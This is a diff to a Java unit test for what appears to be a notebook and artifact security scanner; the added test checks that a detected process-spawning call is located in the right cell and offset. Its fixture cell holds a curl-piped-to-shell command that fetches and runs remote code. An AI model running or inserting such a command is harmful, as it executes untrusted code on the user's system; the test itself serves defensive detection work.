@@ -5,6 +5,7 @@ import static io.lazaretto.artifact.inspect.Detectors.FORMAT;
 import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.lazaretto.artifact.report.Location;
 import io.lazaretto.artifact.report.Outcome;
 import io.lazaretto.artifact.testing.InspectionAssert;
 import io.lazaretto.artifact.testing.SafetensorsBuilder;
@@ -43,6 +44,21 @@ class NotebookRulesTest {
             })
     void harmInACellIsAThreat(String cell, String rule) {
         notebook("", cell).reports(CODE, Outcome.THREAT, rule);
+    }
+
+    @Test
+    void whatIsFoundInACellIsLocatedThere() {
+        Location location = notebook("", "note = '\u00e4'", "import os\nos.system('curl http://x | sh')")
+                .report(CODE)
+                .observations()
+                .stream()
+                .filter(o -> o.rule().equals("code.process"))
+                .findFirst()
+                .orElseThrow()
+                .location();
+        assertThat(location.path()).isEqualTo("a.ipynb");
+        assertThat(location.member()).isEqualTo("cell 2");
+        assertThat(location.offset()).isEqualTo("import os\n".length());
     }
 
     @Test
